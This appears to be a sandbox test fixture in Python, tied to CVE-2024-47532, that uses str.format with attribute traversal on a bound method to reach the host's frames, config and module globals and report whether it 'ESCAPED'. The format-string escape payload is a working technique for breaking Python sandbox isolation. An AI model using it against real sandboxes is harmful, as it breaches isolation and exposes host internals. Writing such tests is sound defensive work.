# expect: done
# idea: call format unbound, from the type of a str subclass, on the function that answers our asks
# source: CVE-2024-47532
class Text(str):
    pass


def tick(ctx):
    walk = "{ask.__self__._link._frames._held} {ask.__self__._lines} {ask.__self__._ctx.config}"
    print(type(Text(walk)).__base__.format(Text(walk), ask=ctx.state._ask)[:100])
    names = "{a.__self__._link.__class__.__module__} {a.__self__._link._reading} {a.__self__._link._writing}"
    print(str.format(names, a=ctx.state._ask))
    store = "{a.__func__.__globals__[sys].modules[cellblock.store.memory].MemoryState}"
    try:
        print("ESCAPED: the host's store is here", str.format(store, a=ctx.state._ask))
    except Exception as error:
        print("refused:", type(error).__name__, error)
